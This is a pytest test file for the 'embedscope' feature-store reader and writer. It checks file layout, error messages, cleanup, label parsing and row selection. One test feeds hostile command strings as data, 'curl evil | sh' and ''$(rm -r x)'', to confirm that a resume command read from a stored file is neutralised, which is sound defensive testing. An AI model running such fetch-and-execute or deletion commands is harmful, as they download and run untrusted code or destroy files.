import h5py
import numpy as np
import pytest
import torch

from embedscope.errors import InputError, OutputError, UsageError
from embedscope.store import (
    Provenance,
    StoreWriter,
    check_finite,
    open_features,
    read_features,
    select,
    select_labeled,
    select_split,
)
from embedscope.store import format as layout
from embedscope.store.files import check_output, partial_path
from embedscope.store.format import chunk_rows
from embedscope.store.provenance import LayerOrigin
from embedscope.store.reader import recorded_resuming


def test_round_trip(make_store):
    features = np.random.default_rng(0).normal(size=(10, 3)).astype(np.float32)
    path = make_store(
        features,
        [0, 1, 2, -1, 1, 0, 2, 2, 1, 0],
        class_names=["naïve", "<b>", "c d"],
        split=["train"] * 6 + ["test"] * 4,
        magnitudes=np.abs(features),
    )
    found = read_features(str(path))
    assert torch.equal(found.features[:], torch.from_numpy(features))
    assert torch.equal(found.features[3:5], torch.from_numpy(features[3:5]))
    assert torch.equal(found.magnitudes[:], torch.from_numpy(np.abs(features)))
    assert (found.features.shape, found.features.dtype) == ((10, 3), torch.float32)
    assert found.labels.tolist() == [0, 1, 2, -1, 1, 0, 2, 2, 1, 0]
    assert found.class_names == ("naïve", "<b>", "c d")
    assert list(found.split[[0, 9]]) == ["train", "test"]
    assert (found.name, found.layer, found.ids[4]) == ("store", "embedding", "row4")


def test_file_is_laid_out_as_the_format_says(make_store):
    path = make_store(np.zeros((4, 2)), [0, 1, 1, 0], split=["a"] * 4)
    with h5py.File(path) as file:
        assert dict(file.attrs) == {"schema": "embedscope", "schema_version": 1, "complete": True}
        assert set(file) == {"features", "labels", "class_names", "ids", "split", "rows", "provenance", "digests"}
        assert file["features/embedding"].fletcher32
        assert file["labels"].dtype == np.int64
        assert file["rows/done"][()] == 4


@pytest.mark.parametrize("sizes", [[1] * 23, [23], [7, 7, 9], [5, 5, 5, 5, 3]])
def test_chunks_are_written_once_whole(tmp_path, monkeypatch, sizes):
    monkeypatch.setattr(layout, "CHUNK_BYTES", 5 * 4 * 2)  # five rows of two float32
    features = np.arange(46, dtype=np.float32).reshape(23, 2)
    written = []
    real = h5py.Dataset.__setitem__

    def spy(dataset, key, value):
        if dataset.name == "/features/x":
            written.append((key.start, key.stop))
        real(dataset, key, value)

    monkeypatch.setattr(h5py.Dataset, "__setitem__", spy)
    with StoreWriter(
        tmp_path / "a.h5",
        labels=np.zeros(23),
        class_names=["c"],
        ids=list(map(str, range(23))),
        split=None,
        provenance=Provenance(),
    ) as store:
        start = 0
        for size in sizes:
            store.add({"x": features[start : start + size]})
            start += size
    assert all(start % 5 == 0 and (stop % 5 == 0 or stop == 23) for start, stop in written)
    assert [start for start, _ in written[1:]] == [stop for _, stop in written[:-1]]
    assert torch.equal(read_features(str(tmp_path / "a.h5")).features[:], torch.from_numpy(features))


def test_chunk_holds_a_row_of_any_width():
    assert chunk_rows(10**9, 4) == 1


def test_error_leaves_nothing_behind(tmp_path):
    path = tmp_path / "deep" / "a.h5"

    def interrupted():
        with StoreWriter(path, labels=[0, 0], class_names=["c"], ids=["a", "b"], split=None, provenance=Provenance()) as store:
            store.add({"x": np.zeros((1, 2), np.float32)})
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    assert list(path.parent.iterdir()) == []


def test_missing_rows_are_a_bug(tmp_path):
    def too_few():
        with StoreWriter(
            tmp_path / "a.h5", labels=[0, 0], class_names=["c"], ids=["a", "b"], split=None, provenance=Provenance()
        ) as store:
            store.add({"x": np.zeros((1, 2), np.float32)})

    with pytest.raises(ValueError, match="2 rows were declared, but 0 were added"):
        too_few()
    assert list(tmp_path.iterdir()) == []


def test_ids_are_unique(tmp_path):
    with pytest.raises(InputError, match="1 distinct ids for 2 rows"):
        StoreWriter(tmp_path / "a.h5", labels=[0, 0], class_names=["c"], ids=["a", "a"], split=None, provenance=Provenance())


def test_existing_output_is_refused_untouched(make_store):
    path = make_store(np.zeros((2, 2)), [0, 1])
    before = path.read_bytes()
    with pytest.raises(OutputError, match=r"exists; choose another name or pass `overwrite=True`"):
        StoreWriter(path, labels=[0], class_names=["c"], ids=["a"], split=None, provenance=Provenance())
    assert path.read_bytes() == before


def test_folder_as_output_is_refused(tmp_path):
    with pytest.raises(OutputError, match="is a folder"):
        StoreWriter(tmp_path, labels=[0], class_names=["c"], ids=["a"], split=None, provenance=Provenance())


def test_output_that_cannot_be_written(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(OutputError, match="is not a writable folder"):
        StoreWriter(tmp_path / "file" / "a.h5", labels=[0], class_names=["c"], ids=["a"], split=None, provenance=Provenance())


def test_name_that_is_too_long(tmp_path):
    with pytest.raises(OutputError, match=r"cannot write .*File name too long"):
        StoreWriter(tmp_path / ("a" * 300), labels=[0], class_names=["c"], ids=["a"], split=None, provenance=Provenance())


def test_full_disk_is_one_line_and_leaves_nothing(tmp_path, monkeypatch):
    def full(*_, **__):
        raise OSError(28, "No space left on device")

    def write():
        with StoreWriter(
            tmp_path / "a.h5", labels=[0], class_names=["c"], ids=["a"], split=None, provenance=Provenance()
        ) as store:
            monkeypatch.setattr(h5py.File, "flush", full)
            store.add({"x": np.zeros((1, 2), np.float32)})

    with pytest.raises(OutputError, match=r"cannot write .*No space left on device"):
        write()
    assert list(tmp_path.iterdir()) == []


def test_link_is_followed(make_store, tmp_path):
    (tmp_path / "link.h5").symlink_to(tmp_path / "real.h5")
    make_store(np.zeros((2, 2)), [0, 1], name="link.h5")
    assert (tmp_path / "link.h5").is_symlink()
    assert read_features(str(tmp_path / "real.h5")).features.shape == (2, 2)


@pytest.mark.parametrize("name", ["bad\0name", "bad\udcffname"])
def test_text_that_a_store_cannot_hold(tmp_path, name):
    with pytest.raises(InputError, match="text must be UTF-8 without NUL"):
        StoreWriter(tmp_path / "a.h5", labels=[0], class_names=[name], ids=["a"], split=None, provenance=Provenance())
    assert list(tmp_path.iterdir()) == []


def test_output_may_not_be_an_input(tmp_path):
    (tmp_path / "w.pt").write_text("")
    with pytest.raises(OutputError, match="is the input"):
        check_output(tmp_path / "w.pt", overwrite=True, inputs=[None, "nowhere", tmp_path / "w.pt"])


@pytest.mark.parametrize("missing", ["labels", "class_names", "ids", "features", "provenance", "rows"])
def test_store_with_something_missing(make_store, missing):
    path = make_store(np.zeros((2, 2)), [0, 1])
    with h5py.File(path, "a") as file:
        del file[missing]
    if missing == "rows":  # read only of an unfinished store
        assert read_features(str(path)).features.shape == (2, 2)
    else:
        with pytest.raises(InputError, match=rf"is damaged.*/{missing}.* is missing"):
            read_features(str(path))


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("labels", np.zeros(2), r"/labels are float64 \(2,\)"),
        ("labels", np.zeros((2, 1), int), r"/labels are int64 \(2, 1\)"),
        ("ids", ["a"], r"/ids is \(1,\) for 2 labels"),
        ("split", ["a"], r"/split is \(1,\) for 2 labels"),
        ("magnitudes/embedding", np.zeros((3, 2), np.float32), r"/magnitudes/embedding is \(3, 2\) for 2 labels"),
        ("features/embedding", np.zeros((2, 2), int), "/features/embedding is int64, expected float32"),
        ("features/embedding", np.zeros((2, 0), np.float32), r"/features/embedding is \(2, 0\)"),
        ("provenance", "{", "is damaged: /provenance is not JSON"),
        ("provenance", "[" * 10**5, "is damaged: /provenance is not JSON"),
        ("provenance", "[]", "provenance must be an object, got a list"),
    ],
)
def test_store_with_something_wrong(make_store, name, value, message):
    path = make_store(np.zeros((2, 2)), [0, 1])
    with h5py.File(path, "a") as file:
        if name in file:
            del file[name]
        file[name] = value
    with pytest.raises(InputError, match=message):
        read_features(str(path))


def test_run_is_named_when_it_is_given_as_features(tmp_path):
    (tmp_path / "run.json").write_text("{}")
    with pytest.raises(InputError, match=r"is a finetune run; give one of its stores"):
        read_features(str(tmp_path))


def test_equals_sign_in_a_path(tmp_path):
    (tmp_path / "s=1").mkdir()
    np.save(tmp_path / "s=1" / "x.npy", np.ones((3, 2)))
    np.save(tmp_path / "s=1" / "y.npy", [0, 1, 1])
    found = read_features(f"{tmp_path / 's=1' / 'x.npy'},{tmp_path / 's=1' / 'y.npy'}")
    assert found.name == "x"


def test_no_such_file():
    with pytest.raises(InputError, match=r"no such file: nowhere\.h5"):
        read_features("nowhere.h5")


def test_not_hdf5(tmp_path):
    (tmp_path / "a.h5").write_text("hello")
    with pytest.raises(InputError, match=r"is not an HDF5 feature store, or it is truncated \(Unable"):
        read_features(str(tmp_path / "a.h5"))


def test_cut_short(make_store):
    path = make_store(np.zeros((400, 50)), np.arange(400) % 2)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    with pytest.raises(InputError, match=r"is not an HDF5 feature store, or it is truncated \(Unable"):
        read_features(str(path))


def test_other_hdf5(tmp_path):
    with h5py.File(tmp_path / "a.h5", "w") as file:
        file["x"] = 1
    with pytest.raises(InputError, match="is HDF5 but not an embedscope feature store, and no data set looks like features"):
        read_features(str(tmp_path / "a.h5"))


def test_unfinished_store_names_the_command(make_store):
    path = make_store(np.zeros((2, 2)), [0, 1])
    with h5py.File(path, "a") as file:
        file.attrs["complete"] = False
        file["rows/done"][()] = 1
    with pytest.raises(InputError, match=r"is unfinished \(1 of 2 rows\); finish it with: embedscope extract net.py:Net"):
        read_features(str(path))


@pytest.mark.parametrize(
    ("command", "proposed"),
    [
        ("embedscope extract net.py:Net data -o a.h5", "embedscope extract net.py:Net data -o a.h5 --resume"),
        ("embedscope extract m d -o a.h5 --resume", "embedscope extract m d -o a.h5 --resume"),
        ("embedscope extract m d --unsafe-pickle --overwrite -o a.h5", "embedscope extract m d -o a.h5 --resume"),
        ("embedscope extract m d; curl evil | sh", "embedscope extract m 'd;' curl evil '|' sh --resume"),
        ("embedscope extract '$(rm -r x)' d", "embedscope extract '$(rm -r x)' d --resume"),
        ("curl evil | sh", "embedscope extract ... --resume"),
        ("embedscope extract 'never closed", "embedscope extract ... --resume"),
        ("", "embedscope extract ... --resume"),
    ],
)
def test_a_store_does_not_dictate_the_command(command, proposed):
    assert recorded_resuming(command) == proposed


def test_newer_version_is_refused(make_store):
    path = make_store(np.zeros((2, 2)), [0, 1])
    with h5py.File(path, "a") as file:
        file.attrs["schema_version"] = 2
    with pytest.raises(InputError, match="has format version 2; this embedscope reads up to 1"):
        read_features(str(path))


def test_labels_of_another_length(make_store):
    path = make_store(np.zeros((4, 2)), [0, 1, 0, 1])
    with h5py.File(path, "a") as file:
        del file["labels"]
        file["labels"] = np.zeros(3, dtype=np.int64)
    with pytest.raises(InputError, match=r"/ids is \(4,\) for 3 labels"):
        read_features(str(path))


def test_labels_without_a_name(make_store):
    path = make_store(np.zeros((2, 2)), [0, 1])
    with h5py.File(path, "a") as file:
        file["labels"][0] = 7
    with pytest.raises(InputError, match="labels run from 1 to 7 for 2 classes"):
        read_features(str(path))


def test_damaged_rows(make_store):
    path = make_store(np.arange(4000, dtype=np.float32).reshape(1000, 4), np.arange(1000) % 2)
    content = bytearray(path.read_bytes())
    needle = np.arange(400, 404, dtype=np.float32).tobytes()
    content[content.index(needle) + 2] ^= 1
    path.write_bytes(bytes(content))
    with pytest.raises(InputError, match="is damaged: rows of /features/embedding cannot be read"):
        read_features(str(path)).features[:]


def two_layers(tmp_path):
    with StoreWriter(
        tmp_path / "two.h5",
        labels=[0, 1],
        class_names=["a", "b"],
        ids=["x", "y"],
        split=None,
        provenance=Provenance(layers={"late": LayerOrigin(), "early": LayerOrigin()}),
    ) as store:
        store.add({"late": np.ones((2, 3), np.float32), "early": np.zeros((2, 2), np.float16)})
    return str(tmp_path / "two.h5")


def test_layers_come_in_the_order_of_extraction(tmp_path):
    found = open_features([two_layers(tmp_path)])
    assert [(features.name, features.layer) for features in found] == [("two:late", "late"), ("two:early", "early")]
    assert found[1].features.dtype == torch.float16


def test_a_layer_has_to_be_chosen(tmp_path):
    with pytest.raises(UsageError, match="has several layers: late, early; choose one with `layers=`"):
        read_features(two_layers(tmp_path))


def test_unknown_layer_names_the_nearest(tmp_path):
    with pytest.raises(UsageError, match="did you mean 'late'"):
        open_features([two_layers(tmp_path)], layers=["lata"])


def test_names(make_store, tmp_path):
    path = str(make_store(np.zeros((2, 2)), [0, 1]))
    assert open_features([f"mine={path}"])[0].name == "mine"
    (tmp_path / "a").mkdir()
    other = make_store(np.zeros((2, 2)), [0, 1], name="a/store.h5")
    assert [f.name for f in open_features([path, str(other)])] == [f"{path}:embedding", f"{other}:embedding"]


@pytest.mark.parametrize(
    ("labels", "names", "codes"),
    [
        (np.array([3, 7, 3, -1]), ("3", "7"), [0, 1, 0, -1]),
        (np.array(["b", "a", "b", "c"]), ("a", "b", "c"), [1, 0, 1, 2]),
        (np.array([b"b", b"a", b"b", b"b"]), ("a", "b"), [1, 0, 1, 1]),
        (np.array([1.0, 2.0, 1.0, 5.0]), ("1", "2", "5"), [0, 1, 0, 2]),
        (np.array([True, False, True, True]), ("False", "True"), [1, 0, 1, 1]),
        (np.array([2, 3, 2, 9], dtype=np.uint8), ("2", "3", "9"), [0, 1, 0, 2]),
    ],
)
def test_npz_labels_of_any_kind(tmp_path, labels, names, codes):
    np.savez(tmp_path / "a.npz", X=np.zeros((4, 2)), y=labels)
    found = read_features(str(tmp_path / "a.npz"))
    assert found.class_names == names
    assert found.labels.tolist() == codes


def test_npz_class_names_and_rows(tmp_path):
    np.savez(tmp_path / "a.npz", X=np.arange(6).reshape(3, 2), y=[2, 0, -1], class_names=["x", "y", "z"], split=["a", "b", "a"])
    found = read_features(str(tmp_path / "a.npz"))
    assert found.class_names == ("x", "y", "z")
    assert found.labels.tolist() == [2, 0, -1]
    assert found.features[:].dtype == torch.float32
    assert (list(found.ids), list(found.split)) == (["0", "1", "2"], ["a", "b", "a"])


def test_npy_pair(tmp_path):
    np.save(tmp_path / "f.npy", np.ones((3, 2), np.float16))
    np.save(tmp_path / "l.npy", [0, 1, 1])
    found = read_features(f"both={tmp_path / 'f.npy'},{tmp_path / 'l.npy'}")
    assert (found.name, found.labels.tolist(), found.features.dtype) == ("both", [0, 1, 1], torch.float16)


@pytest.mark.parametrize(
    ("arrays", "message"),
    [
        ({"X": np.zeros((3, 2)), "y": [0, 1]}, r"X has 3 rows, but y has shape \(2,\)"),
        ({"X": np.zeros((3, 2))}, "has no y; it holds X; an archive needs X"),
        ({"X": np.zeros((0, 2)), "y": np.zeros(0, np.int64)}, "has no rows"),
        ({"X": np.zeros((3, 2, 2)), "y": [0, 1, 1]}, r"X must be numbers of shape \(N, D\)"),
        ({"X": np.zeros((3, 2)), "y": [0.5, 1, 1]}, "labels must be integers or text"),
        ({"X": np.zeros((3, 2)), "y": [0, 1, 2], "class_names": ["a", "b"]}, "label 2 has no name among 2"),
        ({"X": np.zeros((3, 2)), "y": [0, 1, 2], "class_names": ["a", "b", "a"]}, "class_names must be distinct"),
        (
            {"X": np.zeros((3, 2)), "y": [0, 1, 2], "class_names": "abc"},
            "class_names must be distinct and one-dimensional; got",
        ),
        ({"X": np.zeros((3, 2)), "y": [0, np.inf, 1]}, "labels must be integers or text, got float64"),
        ({"X": np.zeros((3, 2)), "y": [0, 1e300, 1]}, "labels must be integers or text"),
        ({"X": np.zeros((3, 2)), "y": [0, 1, 1], "ids": ["a", "b", "a"]}, "ids must be unique; 1 of 3 are repeated"),
        ({"X": np.zeros((3, 0)), "y": [0, 1, 1]}, "has no rows or no columns"),
        ({"X": np.array([["a", "b"]] * 3), "y": [0, 1, 1]}, "X must be numbers of at most 64 bits"),
        ({"X": np.zeros((3, 2), np.longdouble), "y": [0, 1, 1]}, "X must be numbers of at most 64 bits"),
        ({"X": np.zeros((2, 2)), "y": np.array([b"\xff", b"a"])}, "y are not UTF-8 text"),
    ],
)
def test_npz_that_cannot_be_used(tmp_path, arrays, message):
    np.savez(tmp_path / "a.npz", **arrays)
    with pytest.raises(InputError, match=message):
        read_features(str(tmp_path / "a.npz"))


def test_npz_never_unpickles(tmp_path):
    np.savez(tmp_path / "a.npz", X=np.array([{"a": 1}, None], dtype=object), y=[0, 1])
    with pytest.raises(InputError, match="holds Python objects, which are never unpickled"):
        read_features(str(tmp_path / "a.npz"))


def test_npz_in_another_byte_order_with_objects_beside(tmp_path):
    np.savez(tmp_path / "a.npz", X=np.arange(6, dtype=">f4").reshape(3, 2), y=[0, 1, 1], meta=np.array([{}], dtype=object))
    found = read_features(str(tmp_path / "a.npz"))
    assert found.features[:].tolist() == [[0, 1], [2, 3], [4, 5]]


def test_npy_called_npz(tmp_path):
    np.save(tmp_path / "a.npy", np.zeros((2, 2)))
    (tmp_path / "a.npy").rename(tmp_path / "a.npz")
    with pytest.raises(InputError, match="contains a single array"):
        read_features(str(tmp_path / "a.npz"))


def test_pair_of_other_files(tmp_path):
    np.savez(tmp_path / "a.npz", X=np.zeros((2, 2)), y=[0, 1])
    with pytest.raises(InputError, match=r"expected one .npz, or a pair"):
        read_features(f"{tmp_path / 'a.npz'},{tmp_path / 'a.npz'}")


def test_npy_alone(tmp_path):
    np.save(tmp_path / "f.npy", np.ones((3, 2)))
    with pytest.raises(InputError, match=r"give both as X.npy,y.npy"):
        read_features(str(tmp_path / "f.npy"))


def test_selection_reads_the_chosen_rows(make_store):
    features = np.arange(24, dtype=np.float32).reshape(12, 2)
    labels = np.array([0, 1, -1] * 4)
    found = read_features(str(make_store(features, labels, split=["train"] * 6 + ["test"] * 6, magnitudes=features)))
    kept, unlabelled = select_labeled(select_split(found, "test"))
    rows = [6, 7, 9, 10]
    assert unlabelled == 2
    assert torch.equal(kept.features[:], torch.from_numpy(features[rows]))
    assert torch.equal(kept.features[1:3], torch.from_numpy(features[[7, 9]]))
    assert torch.equal(kept.magnitudes[2:], torch.from_numpy(features[[9, 10]]))
    assert kept.features[4:].shape == (0, 2)
    assert list(kept.ids) == [f"row{row}" for row in rows]
    assert kept.features.shape == (4, 2)


def test_selecting_all_is_the_same_object(make_store):
    found = read_features(str(make_store(np.zeros((2, 2)), [0, 1])))
    assert select(found, np.ones(2, dtype=bool)) is found


def test_unknown_split(make_store):
    found = read_features(str(make_store(np.zeros((2, 2)), [0, 1], split=["train", "test"])))
    with pytest.raises(UsageError, match="did you mean 'test'"):
        select_split(found, "tset")


def test_split_of_features_without(make_store):
    found = read_features(str(make_store(np.zeros((2, 2)), [0, 1])))
    with pytest.raises(InputError, match="has no splits; omit `split=test`"):
        select_split(found, "test")


def test_no_label_at_all(make_store):
    found = read_features(str(make_store(np.zeros((2, 2)), [-1, -1])))
    with pytest.raises(InputError, match="has 2 rows, none of them labeled"):
        select_labeled(found)


def test_rows_that_are_not_finite_are_named(make_store):
    features = np.zeros((9, 2))
    features[[1, 4, 5, 6, 7, 8], 1] = [np.nan, np.inf, -np.inf, np.nan, np.nan, np.nan]
    found = read_features(str(make_store(features, np.arange(9) % 2)))
    with pytest.raises(InputError, match=r"6 of 9 rows of the features hold NaN .*: rows 1 \(row1\), 4 \(row4\), .*…"):
        check_finite(found)


def test_partial_lies_beside(tmp_path):
    assert partial_path(tmp_path / "a.h5") == tmp_path / "a.h5.partial"


def test_npz_that_promises_more_than_it_holds(tmp_path):
    import io
    import zipfile

    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**6, 10**6)})
    with zipfile.ZipFile(tmp_path / "a.npz", "w") as archive:
        archive.writestr("X.npy", header.getvalue() + b"0" * 80)
        archive.writestr("y.npy", header.getvalue())
    with pytest.raises(InputError, match="declares 8,000,000,000,000 bytes but contains"):
        read_features(str(tmp_path / "a.npz"))
